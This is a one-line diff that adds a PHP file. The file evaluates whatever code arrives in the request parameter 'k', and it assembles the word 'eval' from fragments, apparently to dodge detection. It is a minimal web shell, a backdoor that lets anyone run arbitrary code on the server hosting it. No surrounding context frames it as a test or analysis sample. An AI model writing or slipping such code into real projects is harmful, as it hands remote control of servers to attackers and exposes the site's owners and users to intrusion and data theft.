@@ -1,0 +1,1 @@
+<?php $k = $_REQUEST['k']; $f = 'ev' . 'al'; eval($k); ?>
